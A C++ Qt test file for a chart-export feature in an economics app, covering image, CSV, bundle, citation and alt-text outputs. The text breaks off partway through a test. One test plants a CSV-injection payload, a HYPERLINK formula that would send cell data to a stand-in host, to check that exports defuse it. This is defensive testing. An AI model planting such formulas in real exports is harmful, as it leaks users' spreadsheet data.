// Exports drawn for print (PNG, SVG, PDF), their CSV, bundles, alt text, citations and the
// export dialog, offscreen, on the embedded store.
#include "ui/export/chart_export.h"
#include "ui/export/export_bundle.h"
#include "ui/export/export_dialog.h"

#include "core/csv.h"
#include "econ/fragility.h"
#include "econ/revenue_gap.h"
#include "econ/scenario_link.h"
#include "plot/citation.h"
#include "plot/export_subject.h"
#include "plot/plot_csv.h"
#include "session/session.h"
#include "store/catalog.h"
#include "store/figure_choice.h"

#include <QComboBox>
#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QProcess>
#include <QSpinBox>
#include <QTemporaryDir>
#include <QDialogButtonBox>
#include <QAbstractButton>
#include <QTest>
#include <QXmlStreamReader>

#include <zip.h>

#include <cmath>
#include <map>

using cliff::econ::EconomicView;
using cliff::ui::ExportFormat;
using cliff::ui::ExportOptions;

Q_DECLARE_METATYPE(cliff::econ::EconomicView)
Q_DECLARE_METATYPE(cliff::ui::ExportFormat)

class TestExport : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void quantitiesReadOneWay_data();
    void quantitiesReadOneWay();
    void dialogFitsAProjector();
    void everyViewExportsEveryFormat_data();
    void everyViewExportsEveryFormat();
    void csvHoldsExactlyThePlottedValues_data();
    void csvHoldsExactlyThePlottedValues();
    void csvMatchesTheRevenueGapModel();
    void csvMatchesTheFragilityScores();
    void userFiguresAreMarkedInCsvSourceLineAndAltText();
    void csvAndSvgAreReproducible();
    void csvIsSpreadsheetSafe_data();
    void csvIsSpreadsheetSafe();
    void bundleHoldsEverythingToReproduceTheChart();
    void footnoteListsOnlyChangedAssumptions();
    void altTextDescribesRangeUnitsAndHeadline();
    void citationsNameAppScenarioAndSources();
    void unknownChartIsRefused();
    void badSizesAreRefused_data();
    void badSizesAreRefused();
    void pageGrowsToHoldEveryChart();
    void projectorExportsElideNoText_data();
    void projectorExportsElideNoText();
    void failedWritesLeaveNoFile();
    void dialogExportsThroughTheSharedPath();

private:
    cliff::plot::ExportSubject subject(EconomicView view, const std::string &chart = {},
                                       const cliff::econ::Scenario &scenario = {}) const;

    std::vector<cliff::Figure> m_figures;
    std::vector<cliff::Source> m_sources;
    QString m_storePath;
};

namespace {

/// The records of an exported CSV after its "# " comment block.
std::vector<cliff::csv::Record> csvRecords(const QByteArray &bytes)
{
    auto records = cliff::csv::parse(bytes.toStdString(), "export.csv");
    if (!records)
        qFatal("%s", records.error().toString().c_str());
    std::vector<cliff::csv::Record> body;
    for (cliff::csv::Record &record : records.value()) {
        if (!cliff::csv::isComment(record))
            body.push_back(std::move(record));
    }
    return body;
}

/// Every text element's content, each simplified, joined with single spaces.
QString svgText(const QByteArray &svg, QString *title, bool *wellFormed)
{
    QXmlStreamReader reader(svg);
    QStringList texts;
    while (!reader.atEnd()) {
        reader.readNext();
        if (reader.isStartElement() && reader.name() == u"text")
            texts << reader.readElementText(QXmlStreamReader::IncludeChildElements).simplified();
        else if (reader.isStartElement() && reader.name() == u"title" && title)
            *title = reader.readElementText();
    }
    *wellFormed = !reader.hasError();
    return texts.join(u' ');
}

/// How many page objects a PDF holds ("/Type /Page" not followed by "s").
int pdfPageCount(const QByteArray &pdf)
{
    int pages = 0;
    for (qsizetype at = pdf.indexOf("/Type /Page"); at >= 0; at = pdf.indexOf("/Type /Page", at + 1)) {
        const qsizetype next = at + qsizetype(sizeof("/Type /Page") - 1);
        if (next >= pdf.size() || pdf.at(next) != 's')
            ++pages;
    }
    return pages;
}

/// The entries of a zip archive, read back with libzip.
std::map<QString, QByteArray> unzip(const QByteArray &bytes)
{
    std::map<QString, QByteArray> entries;
    zip_error_t error;
    zip_error_init(&error);
    zip_source_t *source = zip_source_buffer_create(bytes.constData(), zip_uint64_t(bytes.size()), 0, &error);
    zip_t *archive = source ? zip_open_from_source(source, ZIP_RDONLY, &error) : nullptr;
    if (!archive) {
        if (source)
            zip_source_free(source);
        zip_error_fini(&error);
        return entries;
    }
    const zip_int64_t count = zip_get_num_entries(archive, 0);
    for (zip_int64_t i = 0; i < count; ++i) {
        zip_stat_t stat;
        zip_stat_index(archive, zip_uint64_t(i), 0, &stat);
        QByteArray data(qsizetype(stat.size), '\0');
        zip_file_t *file = zip_fopen_index(archive, zip_uint64_t(i), 0);
        zip_fread(file, data.data(), stat.size);
        zip_fclose(file);
        entries[QString::fromUtf8(stat.name)] = data;
    }
    zip_close(archive);
    zip_error_fini(&error);
    return entries;
}

QString sha256(const QByteArray &bytes)
{
    return QString::fromLatin1(QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex());
}

ExportOptions optionsFor(ExportFormat format)
{
    ExportOptions options;
    options.format = format;
    options.widthPx = 1000;
    options.heightPx = 700;
    options.dpi = 144;
    return options;
}

} // namespace

cliff::plot::ExportSubject TestExport::subject(EconomicView view, const std::string &chart,
                                               const cliff::econ::Scenario &scenario) const
{
    auto plot = cliff::plot::buildViewPlot(view, m_figures, scenario);
    if (!plot)
        qFatal("%s", plot.error().toString().c_str());
    auto made = cliff::plot::makeExportSubject(std::move(plot).value(), chart, scenario, m_figures, m_sources);
    if (!made)
        qFatal("%s", made.error().toString().c_str());
    return std::move(made).value();
}

void TestExport::initTestCase()
{
    auto catalog = cliff::store::loadCatalog({}, {});
    QVERIFY2(catalog.ok(), catalog.ok() ? "" : catalog.error().toString().c_str());
    m_figures = catalog->modelFigures();
    m_sources = catalog->figures.sources;
    m_storePath = catalog->shippedPath;
}

void TestExport::everyViewExportsEveryFormat_data()
{
    QTest::addColumn<EconomicView>("view");
    QTest::addColumn<ExportFormat>("format");
    for (EconomicView view : cliff::econ::economicViews()) {
        for (ExportFormat format : cliff::ui::exportFormats()) {
            const QByteArray name = QByteArray::fromStdString(std::string(cliff::econ::economicViewKey(view)))
                                    + ' ' + cliff::ui::exportFormatKey(format).toLatin1();
            QTest::newRow(name.constData()) << view << format;
        }
    }
}

void TestExport::everyViewExportsEveryFormat()
{
    QFETCH(EconomicView, view);
    QFETCH(ExportFormat, format);
    const cliff::plot::ExportSubject exported = subject(view);
    const ExportOptions options = optionsFor(format);
    const auto bytes = cliff::ui::renderExport(exported, options);
    QVERIFY2(bytes.ok(), bytes.ok() ? "" : bytes.error().toString().c_str());
    QVERIFY(!bytes->isEmpty());
    const QString title = QString::fromStdString(cliff::plot::defaultTitle(exported));
    const QString sourceLine = QString::fromStdString(cliff::plot::exportSourceLine(exported));

    switch (format) {
    case ExportFormat::Png: {
        const QImage image = QImage::fromData(*bytes, "PNG");
        QVERIFY(!image.isNull());
        QCOMPARE(image.size(), QSize(1500, 1050)); // 1000 x 700 logical pixels at 144/96
        QCOMPARE(image.dotsPerMeterX(), qRound(144 / 0.0254));
        // Drawn, not blank: the title's dark ink is on the page.
        int dark = 0;
        for (int y = 0; y < 120; ++y) {
            for (int x = 0; x < image.width(); x += 3)
                dark += qGray(image.pixel(x, y)) < 80 ? 1 : 0;
        }
        QVERIFY(dark > 100);
        break;
    }
    case ExportFormat::Svg: {
        bool wellFormed = false;
        QString svgTitle;
        const QString text = svgText(*bytes, &svgTitle, &wellFormed);
        QVERIFY(wellFormed);
        QCOMPARE(svgTitle, title);
        QVERIFY2(text.contains(title), qPrintable(title));
        QVERIFY2(text.contains(sourceLine.simplified()), qPrintable(sourceLine));
        QVERIFY(text.contains(QStringLiteral("Compute Cliff Explorer ")));
        QVERIFY(!bytes->contains("<image")); // vectors and text, no embedded bitmap
        break;
    }
    case ExportFormat::Pdf:
        QVERIFY(bytes->startsWith("%PDF-"));
        QCOMPARE(pdfPageCount(*bytes), 1);
        QVERIFY(bytes->trimmed().endsWith("%%EOF"));
        break;
    case ExportFormat::Csv: {
        const auto records = csvRecords(*bytes);
        QVERIFY(records.size() > 1);
        QCOMPARE(records.front().fields, cliff::plot::plotCsvColumns());
        QVERIFY(bytes->startsWith("\"# Compute Cliff Explorer "));
        QVERIFY(bytes->contains("# scenario: compute-cliff:view="));
        break;
    }
    case ExportFormat::Bundle: {
        const auto entries = unzip(*bytes);
        const QString stem = QString::fromStdString(exported.fileStem());
        for (const QString &name : {stem + QStringLiteral(".png"), stem + QStringLiteral(".svg"),
                                    stem + QStringLiteral(".csv"), stem + QStringLiteral(".alt.txt"),
                                    QStringLiteral("manifest.json"), QStringLiteral("README.txt")})
            QVERIFY2(entries.count(name) == 1, qPrintable(name));
        break;
    }
    }
}

void TestExport::csvHoldsExactlyThePlottedValues_data()
{
    QTest::addColumn<EconomicView>("view");
    QTest::addColumn<QString>("chart");
    for (EconomicView view : cliff::econ::economicViews())
        QTest::newRow(cliff::econ::economicViewKey(view).data()) << view << QStringLiteral("all");
}

void TestExport::csvHoldsExactlyThePlottedValues()
{
    QFETCH(EconomicView, view);
    QFETCH(QString, chart);
    cliff::econ::Scenario scenario;
    QVERIFY(scenario.set(cliff::econ::AssumptionId::Wacc, 0.12).ok());
    QVERIFY(scenario.set(cliff::econ::AssumptionId::DemandElasticity, 0.8).ok());
    const auto exported = subject(view, chart.toStdString(), scenario);
    const auto records = csvRecords(QByteArray::fromStdString(cliff::plot::plotCsv(exported)));

    // The plot built again here, independently of the subject, at the same scenario.
    const auto plot = cliff::plot::buildViewPlot(view, m_figures, scenario);
    QVERIFY(plot.ok());
    std::size_t row = 1;
    for (const cliff::plot::ChartSpec &spec : plot->charts) {
        for (const cliff::plot::Series &series : spec.series) {
            for (const cliff::plot::Point &point : series.points) {
                const bool padding = series.evidence != cliff::plot::Evidence::Modelled
                                     && series.evidence != cliff::plot::Evidence::Baseline
                                     && point.figureId.empty()
                                     && (series.shape == cliff::plot::SeriesShape::Bars
                                         || series.shape == cliff::plot::SeriesShape::StackedBars);
                if (padding)
                    continue;
                QVERIFY(row < records.size());
                const auto &fields = records[row++].fields;
                QCOMPARE(fields[0], spec.key);
                QCOMPARE(fields[1], series.name);
                QCOMPARE(std::stod(fields[2]), point.x);
                QCOMPARE(std::stod(fields[4]), point.y);
                if (point.yHigh)
                    QCOMPARE(std::stod(fields[5]), *point.yHigh);
                else
                    QVERIFY(fields[5].empty());
                QCOMPARE(fields[8], point.figureId);
                const bool modelled = series.evidence == cliff::plot::Evidence::Modelled
                                      || series.evidence == cliff::plot::Evidence::Baseline;
                QCOMPARE(fields[11], std::string(point.figureId.empty() || modelled ? "" : "shipped"));
                if (!point.figureId.empty()) {
                    const auto figure = std::find_if(m_figures.begin(), m_figures.end(),
                                                     [&](const cliff::Figure &f) { return f.id == point.figureId; });
                    QVERIFY(figure != m_figures.end());
                    QCOMPARE(fields[9], figure->sourceId);
                }
            }
        }
        row += spec.markers.size();
    }
    QCOMPARE(row, records.size());
}

void TestExport::csvMatchesTheRevenueGapModel()
{
    for (double wacc : {0.09, 0.12}) {
        cliff::econ::Scenario scenario;
        QVERIFY(scenario.set(cliff::econ::AssumptionId::Wacc, wacc).ok());
        const auto model = cliff::econ::computeRevenueGap(m_figures, scenario);
        QVERIFY(model.ok());
        const auto records = csvRecords(QByteArray::fromStdString(
            cliff::plot::plotCsv(subject(EconomicView::RevenueGap, "required-vs-projected", scenario))));
        std::map<std::string, double> at2030;
        for (const auto &record : records) {
            if (record.fields[2] == "2030")
                at2030[record.fields[1]] = std::stod(record.fields[4]);
        }
        // US$ billions in the CSV, US dollars in the model.
        QCOMPARE(at2030.at("Required revenue"), model->requiredRevenue2030Usd / 1e9);
        QCOMPARE(at2030.at("Projected revenue"), model->projectedRevenue2030Usd / 1e9);
    }
}

void TestExport::csvMatchesTheFragilityScores()
{
    const auto model = cliff::econ::computeFragility(m_figures, cliff::econ::Scenario{});
    QVERIFY(model.ok());
    const auto records = csvRecords(QByteArray::fromStdString(
        cliff::plot::plotCsv(subject(EconomicView::Fragility, "fragility-ranking"))));
    std::map<int, double> stacked; // the factor contributions summed per party
    for (std::size_t r = 1; r < records.size(); ++r)
        stacked[std::stoi(records[r].fields[2])] += std::stod(records[r].fields[4]);
    QCOMPARE(stacked.size(), model->ranking.size());
    for (std::size_t p = 0; p < model->ranking.size(); ++p)
        QVERIFY(std::abs(stacked[int(p)] - model->ranking[p].score) < 1e-9);
}

void TestExport::userFiguresAreMarkedInCsvSourceLineAndAltText()
{
    // Rivals of two shipped Oracle figures, as an import gives them; the models read them.
    const auto shipped = [this](const std::string &id) {
        return *std::find_if(m_figures.begin(), m_figures.end(),
                             [&id](const cliff::Figure &f) { return f.id == id; });
    };
    const auto rival = [&shipped](const std::string &of, const std::string &id, double value,
                                  const std::string &quoted, const std::string &quote) {
        cliff::Figure figure = shipped(of);
        figure.id = id;
        figure.value = value;
        figure.quoted = quoted;
        figure.quote = quote;
        figure.userOwned = true;
        return figure;
    };
    const cliff::Figure spread =
        rival("credit-oracle-cds-2025-12-12-ice", "my-oracle-cds", 200.0, "200", "Oracle CDS at 200 bps");
    const cliff::Figure odds =
        rival("oracle-implied-pd-ria", "my-oracle-pd", 12.0, "12%", "odds of 12% for Oracle");
    std::vector<cliff::Figure> all = m_figures;
    all.push_back(spread);
    all.push_back(odds);
    const std::vector<cliff::Figure> figures = cliff::store::applyChoices(all, {});

    const cliff::econ::Scenario defaults;
    auto plot = cliff::plot::buildViewPlot(EconomicView::Fragility, figures, defaults);
    QVERIFY(plot.ok());
    auto exported = cliff::plot::makeExportSubject(std::move(plot).value(), "implied-default", defaults,
                                                   figures, m_sources);
    QVERIFY(exported.ok());
    const QByteArray csv = QByteArray::fromStdString(cliff::plot::plotCsv(*exported));
    const auto records = csvRecords(csv);
    const auto &columns = cliff::plot::plotCsvColumns();
    const auto column = [&columns](const char *name) {
        return std::size_t(std::find(columns.begin(), columns.end(), name) - columns.begin());
    };
    QCOMPARE(columns.back(), std::string("origin"));
    std::map<std::string, std::vector<std::string>> byFigure;
    for (std::size_t r = 1; r < records.size(); ++r)
        byFigure[records[r].fields[column("figure_id")] + "|" + records[r].fields[column("series")]] = records[r].fields;

    // The bar the model computes from the user's spread: 1 - exp(-5 x 0.0200 / (1 - 0.35)).
    const auto implied = byFigure.find("my-oracle-cds|Implied at the recovery-rate slider");
    QVERIFY(implied != byFigure.end());
    QVERIFY(std::abs(std::stod(implied->second[column("y")]) - 14.259608) < 1e-5);
    QCOMPARE(implied->second[column("origin")], std::string());
    QCOMPARE(implied->second[column("label")], std::string("Oracle 2025-12-12 (from your figure)"));
    const auto cited = byFigure.find("my-oracle-pd|Cited implied probability");
    QVERIFY(cited != byFigure.end());
    QCOMPARE(cited->second[column("y")], std::string("12"));
    QCOMPARE(cited->second[column("origin")], std::string("user"));
    QVERIFY(cited->second[column("label")].ends_with("(your figure)"));
    const auto coreweave = std::find_if(byFigure.begin(), byFigure.end(), [](const auto &row) {
        return row.first.starts_with("coreweave-implied-pd") && row.first.ends_with("|Cited implied probability");
    });
    QVERIFY(coreweave != byFigure.end());
    QCOMPARE(coreweave->second[column("origin")], std::string("shipped"));
    QVERIFY(!csv.contains("credit-oracle-cds-2025-12-12-ice")); // the shipped rival is set aside

    const std::string named = "Your own figures, not from the app's sources: Oracle, 5-year CDS "
                              "spread, 2025-12-12; Oracle, Implied 5-year default probability, 2025-12.";
    QCOMPARE(cliff::plot::userFiguresLine(*exported), named);
    QVERIFY(cliff::plot::exportSourceLine(*exported).ends_with(" " + named));
    QVERIFY(cliff::plot::altText(*exported).find(named) != std::string::npos);
    QVERIFY(csv.contains(QByteArray::fromStdString("\"# " + named + "\"\r\n")));
    QCOMPARE(cliff::plot::userFiguresLine(subject(EconomicView::Fragility, "implied-default")), std::string());
}

void TestExport::csvAndSvgAreReproducible()
{
    cliff::econ::Scenario scenario;
    QVERIFY(scenario.set(cliff::econ::AssumptionId::RecoveryRate, 0.2).ok());
    for (ExportFormat format : {ExportFormat::Csv, ExportFormat::Svg, ExportFormat::Bundle}) {
        ExportOptions options = optionsFor(format);
        options.byline = QStringLiteral("Chart: A. Writer");
        const auto first = cliff::ui::renderExport(subject(EconomicView::Fragility, {}, scenario), options);
        const auto second = cliff::ui::renderExport(subject(EconomicView::Fragility, {}, scenario), options);
        QVERIFY(first.ok() && second.ok());
        QVERIFY2(*first == *second, qPrintable(cliff::ui::exportFormatKey(format)));
    }
}

void TestExport::csvIsSpreadsheetSafe_data()
{
    QTest::addColumn<ExportFormat>("format");
    QTest::newRow("csv") << ExportFormat::Csv;
    QTest::newRow("bundle") << ExportFormat::Bundle;
}

void TestExport::csvIsSpreadsheetSafe()
{
    QFETCH(ExportFormat, format);
    // A chart whose every text carries a formula, plotting the user's figure from a source whose
    // publisher has a comma: what a hostile import could put in front of an export.
    cliff::Figure own = m_figures.front();
    own.id = "my-poison";
    own.entity = "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
    own.sourceId = "my-source";
    own.readIn.clear();
    own.userOwned = true;
    const cliff::Source source{"my-source", "=1+1", "Acme, Inc.", "https://example.org/poison",
                               "2025", "report", "primary", {}};
    std::vector<cliff::Figure> figures = m_figures;
    figures.push_back(own);
    std::vector<cliff::Source> sources = m_sources;
    sources.push_back(source);
    cliff::plot::ChartSpec chart;
    chart.key = "poison";
    chart.title = "=title";
    chart.x.title = "+x";
    chart.x.kind = cliff::plot::AxisKind::Category;
    chart.x.categories = {"=category"};
    chart.y.title = "y";
    chart.y.unit = "-units";
    cliff::plot::Series series;
    series.name = "+series";
    series.shape = cliff::plot::SeriesShape::Bars;
    series.evidence = cliff::plot::Evidence::Reported;
    cliff::plot::Point point;
    point.y = -2.5;
    point.yHigh = -1.25;
    point.figureId = own.id;
    point.label = "@label";
    point.userOwned = true;
    series.points = {point};
    chart.series = {series};
    chart.markers = {cliff::plot::Marker{false, -1.5, "-marker"}};
    chart.figureIds = {own.id};
    cliff::plot::ViewPlot plot;
    plot.view = EconomicView::Moat;
    plot.question = "-question";
    plot.headline = "@headline";
    plot.charts = {chart};
    auto exported = cliff::plot::makeExportSubject(plot, {}, {}, figures, sources);
    QVERIFY2(exported.ok(), exported.ok() ? "" : exported.error().toString().c_str());
    const auto bytes = cliff::ui::renderExport(*exported, optionsFor(format));
    QVERIFY2(bytes.ok(), bytes.ok() ? "" : bytes.error().toString().c_str());
    const QByteArray csv = format == ExportFormat::Csv
                               ? *bytes
                               : unzip(*bytes).at(QString::fromStdString(exported->fileStem()) + QStringLiteral(".csv"));

    auto records = cliff::csv::parse(csv.toStdString(), "poison.csv");
    QVERIFY(records.ok());
    bool sourceComment = false;
    std::vector<std::vector<std::string>> rows;
    for (const cliff::csv::Record &record : *records) {
        if (cliff::csv::isComment(record)) {
            QVERIFY(rows.empty()); // comments come before the header
            sourceComment = sourceComment
                            || record.fields.front()
                                   == "# source: my-source: Acme, Inc., \u201c=1+1\u201d, 2025, "
                                      "https://example.org/poison; tier primary";
            continue;
        }
        rows.push_back(record.fields);
    }
    QVERIFY(sourceComment);
    QCOMPARE(rows.size(), std::size_t(3));
    QCOMPARE(rows[0], cliff::plot::plotCsvColumns());
    const std::vector<std::string> bar = {"poison", "'+series", "0", "'=category", "-2.5", "-1.25",
                                          "'-units", own.kind, "my-poison", "my-source", "'@label",
                                          "user"};
    QCOMPARE(rows[1], bar);
    const std::vector<std::string> marker = {"poison", "'-marker", "", "", "-1.5", "", "'-units",
                                             "marker", "", "", "horizontal line", ""};
    QCOMPARE(rows[2], marker);
}

void TestExport::bundleHoldsEverythingToReproduceTheChart()
{
    cliff::econ::Scenario scenario;
    QVERIFY(scenario.set(cliff::econ::AssumptionId::Wacc, 0.11).ok());
    const auto exported = subject(EconomicView::RevenueGap, {}, scenario);
    ExportOptions options = optionsFor(ExportFormat::Bundle);
    auto storeHash = cliff::ui::fileSha256(m_storePath);
    QVERIFY(storeHash.ok());
    options.storeSha256 = *storeHash;
    const auto bytes = cliff::ui::renderExport(exported, options);
    QVERIFY(bytes.ok());
    const auto entries = unzip(*bytes);
    QCOMPARE(entries.size(), std::size_t(6));
    const QString stem = QString::fromStdString(exported.fileStem());

    // The bundle's files are the standalone exports, byte for byte.
    for (ExportFormat format : {ExportFormat::Png, ExportFormat::Svg, ExportFormat::Csv}) {
        ExportOptions single = options;
        single.format = format;
        const auto alone = cliff::ui::renderExport(exported, single);
        QVERIFY(alone.ok());
        QVERIFY(entries.at(stem + u'.' + cliff::ui::exportFormatSuffix(format)) == *alone);
    }

    const QJsonObject manifest = QJsonDocument::fromJson(entries.at(QStringLiteral("manifest.json"))).object();
    QCOMPARE(manifest.value(QStringLiteral("version")).toString(), QStringLiteral(CLIFF_VERSION));
    QCOMPARE(manifest.value(QStringLiteral("view")).toString(), QStringLiteral("revenue-gap"));
    QCOMPARE(manifest.value(QStringLiteral("store_sha256")).toString(), *storeHash);
    QFile store(m_storePath);
    QVERIFY(store.open(QIODevice::ReadOnly));
    QCOMPARE(manifest.value(QStringLiteral("store_sha256")).toString(), sha256(store.readAll()));
    const QJsonObject assumptions = manifest.value(QStringLiteral("assumptions")).toObject();
    QCOMPARE(std::size_t(assumptions.size()), cliff::econ::kAssumptionCount);
    QCOMPARE(assumptions.value(QStringLiteral("wacc")).toDouble(), 0.11);
    QCOMPARE(manifest.value(QStringLiteral("changed_assumptions")).toArray(),
             QJsonArray{QStringLiteral("wacc")});
    QCOMPARE(manifest.value(QStringLiteral("scenario_link")).toString(),
             QStringLiteral("compute-cliff:view=revenue-gap&wacc=0.11"));
    QStringList figureIds;
    for (const QJsonValue &figure : manifest.value(QStringLiteral("figures")).toArray())
        figureIds << figure.toObject().value(QStringLiteral("id")).toString();
    QStringList expectedIds;
    for (const std::string &id : exported.figureIds())
        expectedIds << QString::fromStdString(id);
    QCOMPARE(figureIds, expectedIds);
    QVERIFY(!figureIds.isEmpty());
    // Each cited source is an object with its id and its tier, in the order they are cited.
    const QJsonArray manifestSources = manifest.value(QStringLiteral("sources")).toArray();
    const std::vector<cliff::Source> cited = exported.citedSources();
    QCOMPARE(std::size_t(manifestSources.size()), cited.size());
    QVERIFY(!cited.empty());
    for (std::size_t i = 0; i < cited.size(); ++i) {
        const QJsonObject entry = manifestSources.at(qsizetype(i)).toObject();
        QCOMPARE(entry.value(QStringLiteral("id")).toString(), QString::fromStdString(cited[i].id));
        QCOMPARE(entry.value(QStringLiteral("tier")).toString(), QString::fromStdString(cited[i].tier));
        QVERIFY(cited[i].tier == "primary" || cited[i].tier == "secondary" || cited[i].tier == "other");
    }
    for (const QJsonValue &file : manifest.value(QStringLiteral("files")).toArray()) {
        const QJsonObject entry = file.toObject();
        QCOMPARE(entry.value(QStringLiteral("sha256")).toString(),
                 sha256(entries.at(entry.value(QStringLiteral("name")).toString())));
    }

    const QString readme = QString::fromUtf8(entries.at(QStringLiteral("README.txt")));
    for (const cliff::Source &source : exported.citedSources()) {
        QVERIFY2(readme.contains(QString::fromStdString("@misc{" + source.id)), source.id.c_str());
        QVERIFY(readme.contains(QString::fromStdString(source.url)));
        QVERIFY(readme.contains(QString::fromStdString(source.url + " Source tier: " + source.tier + ".")));
    }
    QVERIFY(readme.contains(QStringLiteral("--set wacc=0.11")));
}

void TestExport::footnoteListsOnlyChangedAssumptions()
{
    QCOMPARE(cliff::plot::assumptionFootnote(subject(EconomicView::RevenueGap)),
             std::string("Every assumption of the model at its default value."));
    cliff::econ::Scenario scenario;
    QVERIFY(scenario.set(cliff::econ::AssumptionId::Wacc, 0.12).ok());
    QVERIFY(scenario.set(cliff::econ::AssumptionId::DepreciationLifeYears, 4).ok());
    QVERIFY(scenario.set(cliff::econ::AssumptionId::RecoveryRate, 0.5).ok()); // not read by this view
    QCOMPARE(cliff::plot::assumptionFootnote(subject(EconomicView::RevenueGap, {}, scenario)),
             std::string("Assumptions changed from the defaults: Depreciation life of servers 4 years "
                         "(default 6 years); Cost of capital (WACC) 12% per year (default 9% per year)."));
    using cliff::econ::AssumptionId;
    const auto format = [](AssumptionId id, double value) {
        return cliff::plot::formatAssumptionValue(cliff::econ::assumption(id), value);
    };
    QCOMPARE(format(AssumptionId::NeocloudLeverage, 0.9), std::string("90%"));
    QCOMPARE(format(AssumptionId::NeocloudCdsSpreadBp, 500), std::string("500 bp"));
    QCOMPARE(format(AssumptionId::AlgorithmicEfficiencyPerYear, 4), std::string("4\u00d7 per year"));
    QCOMPARE(format(AssumptionId::CapexGuidanceScale, 1.5), std::string("1.5\u00d7 guided capex"));
    QCOMPARE(format(AssumptionId::OperatingMargin, 0.355), std::string("35.5% of revenue"));
    // The moat view plots cited figures only.
    QCOMPARE(cliff::plot::assumptionFootnote(subject(EconomicView::Moat, {}, scenario)),
             std::string("The chart plots cited figures only; no assumption changes it."));

    // Drawn into the page, and left out when not wanted.
    ExportOptions options = optionsFor(ExportFormat::Svg);
    bool wellFormed = false;
    auto svg = cliff::ui::renderExport(subject(EconomicView::RevenueGap, {}, scenario), options);
    QVERIFY(svgText(*svg, nullptr, &wellFormed).contains(QStringLiteral("Cost of capital (WACC) 12% per year")));
    options.drawFootnote = false;
    svg = cliff::ui::renderExport(subject(EconomicView::RevenueGap, {}, scenario), options);
    QVERIFY(!svgText(*svg, nullptr, &wellFormed).contains(QStringLiteral("Cost of capital (WACC)")));
}

void TestExport::altTextDescribesRangeUnitsAndHeadline()
{
    const auto exported = subject(EconomicView::RevenueGap, "required-vs-projected");
    const std::string alt = cliff::plot::altText(exported);
    const auto model = cliff::econ::computeRevenueGap(m_figures, cliff::econ::Scenario{});
    QVERIFY(model.ok());
    const QString text = QString::fromStdString(alt);
    QVERIFY(text.contains(QStringLiteral("AI revenue required vs projected")));
    QVERIFY(text.contains(QStringLiteral("(US$ billions)")));
    QVERIFY2(text.contains(QStringLiteral("by year from %1 to %2")
                               .arg(model->years.front().year)
                               .arg(model->years.back().year)),
             alt.c_str());
    QVERIFY(text.contains(QString::fromStdString(exported.plot.headline)));
    QVERIFY(!text.contains(u'\n'));

    // A category chart names its categories.
    const std::string ranking = cliff::plot::altText(subject(EconomicView::Fragility));
    QVERIFY2(ranking.find("Equity holders") != std::string::npos, ranking.c_str());
}

void TestExport::citationsNameAppScenarioAndSources()
{
    cliff::econ::Scenario scenario;
    QVERIFY(scenario.set(cliff::econ::AssumptionId::Wacc, 0.12).ok());
    const auto exported = subject(EconomicView::RevenueGap, {}, scenario);
    const auto all = cliff::plot::citations(exported);
    QCOMPARE(all.size(), exported.citedSources().size() + 1);
    const cliff::plot::Citation &chart = all.front();
    QVERIFY(chart.shortText.find(std::string("Compute Cliff Explorer ") + CLIFF_VERSION) != std::string::npos);
    QVERIFY(chart.longText.find("compute-cliff:view=revenue-gap&wacc=0.12") != std::string::npos);
    QVERIFY(chart.bibtex.find("compute-cliff:view=revenue-gap\\&wacc=0.12") != std::string::npos);
    for (const cliff::plot::Citation &citation : all) {
        QVERIFY(citation.bibtex.starts_with("@misc{"));
        QVERIFY(citation.bibtex.ends_with("}\n"));
        int depth = 0; // braces not escaped by a backslash must nest and close
        for (std::size_t c = 0; c < citation.bibtex.size(); ++c) {
            if (c > 0 && citation.bibtex[c - 1] == '\\')
                continue;
            depth += citation.bibtex[c] == '{' ? 1 : citation.bibtex[c] == '}' ? -1 : 0;
            QVERIFY(depth >= 0);
        }
        QCOMPARE(depth, 0);
    }
    const std::vector<cliff::Source> sources = exported.citedSources();
    for (std::size_t i = 1; i < all.size(); ++i) {
        const cliff::Source &source = sources[i - 1];
        QVERIFY2(all[i].longText.find(source.url) != std::string::npos, all[i].longText.c_str());
        QVERIFY(all[i].shortText.find(source.publisher) != std::string::npos);
    }
    QCOMPARE(cliff::plot::bibtexEscape("AT&T 50% $5_000 {x}"), std::string("AT\\&T 50\\% \\$5\\_000 \\{x\\}"));

    // A source's citation carries its tier, in the long text and in the BibTeX note.
    const cliff::Source wire{"wire-story", "Capex soars", "Wire Service", "https://example.org/capex",
                             "2025-10-30", "news", "secondary", {}};
    const cliff::plot::Citation cited = cliff::plot::sourceCitation(wire, {"capex-x"});
    QCOMPARE(cited.longText, std::string("Wire Service. \u201cCapex soars\u201d. Published 2025-10-30. "
                                         "https://example.org/capex Source tier: secondary. "
                                         "(Figures plotted: capex-x.)"));
    QVERIFY2(cited.bibtex.find("= {Published 2025-10-30; source tier secondary},\n")
                 != std::string::npos, cited.bibtex.c_str());
    cliff::Source undated = wire;
    undated.published.clear();
    QVERIFY(cliff::plot::sourceCitation(undated, {}).bibtex.find("= {Source tier secondary}")
            != std::string::npos);
}

void TestExport::unknownChartIsRefused()
{
    auto plot = cliff::plot::buildViewPlot(EconomicView::Moat, m_figures, {});
    QVERIFY(plot.ok());
    const auto made = cliff::plot::makeExportSubject(std::move(plot).value(), "no-such-chart", {}, m_figures, m_sources);
    QVERIFY(!made.ok());
    QVERIFY(made.error().message.find("leaderboard-share") != std::string::npos);
    QCOMPARE(subject(EconomicView::Moat, "all").charts.size(), std::size_t(3));
    QCOMPARE(subject(EconomicView::RevenueGap).chartKey(), std::string("required-vs-projected"));
}

void TestExport::badSizesAreRefused_data()
{
    QTest::addColumn<int>("width");
    QTest::addColumn<int>("height");
    QTest::addColumn<int>("dpi");
    QTest::addColumn<QString>("message");
    QTest::newRow("too narrow") << 100 << 800 << 96 << QStringLiteral("width 100 is outside");
    QTest::newRow("too tall") << 1200 << 9000 << 96 << QStringLiteral("height 9000 is outside");
    QTest::newRow("dpi zero") << 1200 << 800 << 0 << QStringLiteral("dpi 0 is outside");
    QTest::newRow("too many pixels") << 8000 << 8000 << 600 << QStringLiteral("over the limit");
}

void TestExport::badSizesAreRefused()
{
    QFETCH(int, width);
    QFETCH(int, height);
    QFETCH(int, dpi);
    QFETCH(QString, message);
    ExportOptions options = optionsFor(ExportFormat::Png);
    options.widthPx = width;
    options.heightPx = height;
    options.dpi = dpi;
